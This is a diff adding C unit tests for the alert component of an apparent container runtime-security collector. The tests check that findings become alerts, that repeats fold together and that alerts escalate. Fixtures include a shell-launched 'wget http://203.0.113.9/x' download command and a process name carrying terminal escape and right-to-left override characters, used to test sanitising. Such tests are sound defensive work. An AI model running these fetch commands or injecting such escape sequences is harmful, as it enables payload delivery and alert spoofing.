@@ -1,0 +1,270 @@
+/* test_alert.c - findings become alerts, against a real store. */
+#include "tests/collector/people.h"
+
+#include "collector/alert/alert.h"
+
+static const uint64_t t0 = 1795464000ull * 1000000000, minute = 60ull * 1000000000;
+static const struct alert_config day = { .fold_ms = 24 * 3600 * 1000 };
+
+static int setup(void **state)
+{
+	static struct people p;
+
+	people_open(&p);
+	*state = &p;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	people_close(*state);
+	return 0;
+}
+
+static struct alert_change put(struct people *p, const struct people_finding *f, uint64_t seq)
+{
+	struct alert_change c;
+
+	MUST(store_begin(p->store, &must_err));
+	MUST(alert_from_finding(p->store, &day, "agent-1", "host-07", 5, seq, &f->record, &c, &must_err));
+	MUST(store_commit(p->store, &must_err));
+	return c;
+}
+
+/* The alert as JSON; caller frees. */
+static cJSON *read_alert(struct people *p, int64_t id)
+{
+	struct arena *a = arena_new(1 << 20);
+	struct store_alert al;
+	struct buf out = { 0 };
+	struct json j;
+	cJSON *doc = NULL;
+
+	MUST(store_alert_get(p->store, id, a, &al, &must_err));
+	json_init(&j, &out);
+	alert_json(&j, &al);
+	assert_false(out.failed);
+	MUST(json_parse(buf_slice(&out), out.n, &doc, &must_err));
+	buf_fini(&out);
+	arena_free(a);
+	return doc;
+}
+
+static const char *at(const cJSON *o, const char *a, const char *b, const char *c)
+{
+	o = cJSON_GetObjectItemCaseSensitive(o, a);
+	o = b ? cJSON_GetObjectItemCaseSensitive(o, b) : o;
+	o = c ? cJSON_GetObjectItemCaseSensitive(o, c) : o;
+	return cJSON_IsString(o) ? o->valuestring : "(none)";
+}
+
+static void an_exec_finding_becomes_an_alert_with_everything_a_person_asks(void **state)
+{
+	struct people_finding f;
+
+	people_finding(&f, t0);
+	struct alert_change c = put(*state, &f, 8);
+	assert_true(c.is_new);
+	assert_int_equal(c.count, 1);
+	cJSON *al = read_alert(*state, c.id);
+	assert_string_equal(at(al, "title", NULL, NULL),
+			    "`wget` ran in container web-1 (nginx:1.25) on host-07, started by `sh`");
+	assert_string_equal(at(al, "severity", NULL, NULL), "high");
+	assert_string_equal(at(al, "priority", NULL, NULL), "Error");
+	assert_string_equal(at(al, "status", NULL, NULL), "new");
+	assert_string_equal(at(al, "source", NULL, NULL), "runtime");
+	assert_string_equal(at(al, "first_seen", NULL, NULL), "2026-11-23T20:00:00.000000000Z");
+	assert_string_equal(at(al, "container", "name", NULL), "web-1");
+	assert_string_equal(at(al, "container", "image_digest", NULL), "sha256:aaaa");
+	assert_string_equal(at(al, "process", "cmdline", NULL), "wget -q http://203.0.113.9/x");
+	assert_string_equal(at(al, "process", "parent", "cmdline"), "sh -c wget http://203.0.113.9/x");
+	assert_string_equal(at(al, "fields", "proc.name", NULL), "wget");
+	const cJSON *evidence = cJSON_GetObjectItemCaseSensitive(al, "evidence");
+	assert_string_equal(cJSON_GetArrayItem(evidence, 0)->valuestring, "agent-1:5:7");
+	cJSON_Delete(al);
+}
+
+static void repeats_fold_and_keep_the_newest_twenty_events(void **state)
+{
+	struct people_finding f;
+	struct alert_change first, c = { 0 };
+
+	people_finding(&f, t0);
+	first = put(*state, &f, 1);
+	for (unsigned i = 2; i <= 30; i++) {
+		people_finding(&f, t0 + i * minute);
+		f.finding.event_seq = 100 + i;
+		c = put(*state, &f, i);
+		assert_false(c.is_new);
+		assert_false(c.is_escalated);
+	}
+	assert_int_equal(c.id, first.id);
+	assert_int_equal(c.count, 30);
+	cJSON *al = read_alert(*state, c.id);
+	const cJSON *evidence = cJSON_GetObjectItemCaseSensitive(al, "evidence");
+	assert_int_equal(cJSON_GetArraySize(evidence), 20);
+	assert_string_equal(cJSON_GetArrayItem(evidence, 0)->valuestring, "agent-1:5:130");
+	assert_string_equal(at(al, "last_seen", NULL, NULL), "2026-11-23T20:30:00.000000000Z");
+	assert_string_equal(at(al, "first_seen", NULL, NULL), "2026-11-23T20:00:00.000000000Z");
+	cJSON_Delete(al);
+}
+
+static void another_container_host_or_rule_is_another_alert(void **state)
+{
+	struct people_finding f;
+	static char other_id[] = "ffff", other_rule[] = "Shell in container";
+
+	people_finding(&f, t0);
+	int64_t a = put(*state, &f, 1).id;
+	f.container.id = other_id;
+	int64_t b = put(*state, &f, 2).id;
+	f.finding.rule = other_rule;
+	int64_t c = put(*state, &f, 3).id;
+	assert_true(a != b && b != c && a != c);
+}
+
+static void a_worse_finding_escalates_and_a_milder_one_does_not_calm(void **state)
+{
+	struct people_finding f;
+	static char critical[] = "CRITICAL", notice[] = "notice";
+
+	people_finding(&f, t0);
+	put(*state, &f, 1);
+	f.finding.priority = critical;
+	struct alert_change up = put(*state, &f, 2);
+	assert_true(up.is_escalated);
+	f.finding.priority = notice;
+	struct alert_change down = put(*state, &f, 3);
+	assert_false(down.is_escalated);
+	cJSON *al = read_alert(*state, up.id);
+	assert_string_equal(at(al, "severity", NULL, NULL), "critical");
+	assert_string_equal(at(al, "priority", NULL, NULL), "CRITICAL");
+	cJSON_Delete(al);
+}
+
+static void new_evidence_opens_a_resolved_alert_again(void **state)
+{
+	struct people *p = *state;
+	struct people_finding f;
+
+	people_finding(&f, t0);
+	int64_t id = put(p, &f, 1).id;
+	MUST(store_alert_set_status(p->store, id, "resolved", "alice", "alice", &must_err));
+	people_finding(&f, t0 + minute);
+	struct alert_change c = put(p, &f, 2);
+	assert_int_equal(c.id, id);
+	assert_true(c.is_reopened);
+	assert_int_equal(c.count, 2);
+	cJSON *al = read_alert(p, id);
+	assert_string_equal(at(al, "status", NULL, NULL), "new");
+	assert_string_equal(at(al, "assignee", NULL, NULL), "alice");
+	cJSON_Delete(al);
+}
+
+static void after_the_fold_time_it_is_a_new_alert(void **state)
+{
+	struct people_finding f;
+
+	people_finding(&f, t0);
+	int64_t id = put(*state, &f, 1).id;
+	people_finding(&f, t0 + 25 * 60 * minute);
+	struct alert_change c = put(*state, &f, 2);
+	assert_true(c.is_new);
+	assert_true(c.id != id);
+}
+
+static void names_that_containers_choose_cannot_forge_a_sentence(void **state)
+{
+	struct people_finding f;
+
+	people_finding(&f, t0);
+	f.process.name = people_bytes("x`\033[2J\n\xe2\x80\xae");
+	f.container.name = people_bytes("web\x80");
+	f.process.args = msg_bytes(SLICE_LIT("a\"b\0\xff\0"));
+	struct alert_change c = put(*state, &f, 1);
+	cJSON *al = read_alert(*state, c.id);
+	assert_string_equal(at(al, "title", NULL, NULL),
+			    "`x'\\x1b[2J\\n\\u{202e}` ran in container web\\x80 (nginx:1.25) on host-07, "
+			    "started by `sh`");
+	assert_string_equal(at(al, "process", "cmdline", NULL), "x`\033[2J\n\xe2\x80\xae a\"b \xef\xbf\xbd");
+	cJSON_Delete(al);
+}
+
+static void a_finding_on_the_host_itself_has_no_container(void **state)
+{
+	struct people_finding f;
+
+	people_finding(&f, t0);
+	f.finding.container = NULL;
+	struct alert_change c = put(*state, &f, 1);
+	cJSON *al = read_alert(*state, c.id);
+	assert_string_equal(at(al, "title", NULL, NULL), "`wget` ran on host-07, started by `sh`");
+	assert_true(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(al, "container")));
+	cJSON_Delete(al);
+}
+
+static void the_largest_finding_still_becomes_an_alert(void **state)
+{
+	static char output[LIMIT_OUTPUT_BYTES], args[LIMIT_ARGS_BYTES], value[LIMIT_ARGS_BYTES],
+		names[LIMIT_FIELDS][16];
+	static Picket__Finding__FieldsEntry entries[LIMIT_FIELDS];
+	static Picket__Finding__FieldsEntry *list[LIMIT_FIELDS];
+	struct people_finding f;
+
+	people_finding(&f, t0);
+	memset(output, 1, sizeof(output) - 1);
+	memset(args, 1, sizeof(args));
+	memset(value, 1, sizeof(value));
+	for (size_t i = 0; i < LIMIT_FIELDS; i++) {
+		snprintf(names[i], sizeof(names[i]), "f%zu", i);
+		entries[i] = (Picket__Finding__FieldsEntry)PICKET__FINDING__FIELDS_ENTRY__INIT;
+		entries[i].key = names[i];
+		entries[i].value = msg_bytes(slice_from(value, sizeof(value)));
+		list[i] = &entries[i];
+	}
+	f.finding.output = output;
+	f.finding.n_fields = LIMIT_FIELDS;
+	f.finding.fields = list;
+	f.process.args = msg_bytes(slice_from(args, sizeof(args)));
+	struct alert_change c = put(*state, &f, 1);
+	cJSON *al = read_alert(*state, c.id);
+	assert_null(cJSON_GetObjectItemCaseSensitive(al, "fields"));
+	assert_string_equal(at(al, "container", "name", NULL), "web-1");
+	cJSON_Delete(al);
+}
+
+static void the_collector_can_raise_an_alert_itself(void **state)
+{
+	struct people *p = *state;
+	struct alert_change c;
+
+	MUST(store_begin(p->store, &must_err));
+	MUST(alert_from_system(p->store, &day, &p->clk, "Events lost", SEVERITY_MEDIUM, "host-07",
+			       "host-07 lost 12 events", "ring full", &c, &must_err));
+	MUST(store_commit(p->store, &must_err));
+	cJSON *al = read_alert(p, c.id);
+	assert_string_equal(at(al, "source", NULL, NULL), "system");
+	assert_string_equal(at(al, "severity", NULL, NULL), "medium");
+	assert_string_equal(at(al, "priority", NULL, NULL), "warning");
+	assert_string_equal(at(al, "title", NULL, NULL), "host-07 lost 12 events");
+	cJSON_Delete(al);
+}
+
+#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		T(an_exec_finding_becomes_an_alert_with_everything_a_person_asks),
+		T(repeats_fold_and_keep_the_newest_twenty_events),
+		T(another_container_host_or_rule_is_another_alert),
+		T(a_worse_finding_escalates_and_a_milder_one_does_not_calm),
+		T(new_evidence_opens_a_resolved_alert_again),
+		T(after_the_fold_time_it_is_a_new_alert),
+		T(names_that_containers_choose_cannot_forge_a_sentence),
+		T(a_finding_on_the_host_itself_has_no_container),
+		T(the_largest_finding_still_becomes_an_alert),
+		T(the_collector_can_raise_an_alert_itself),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
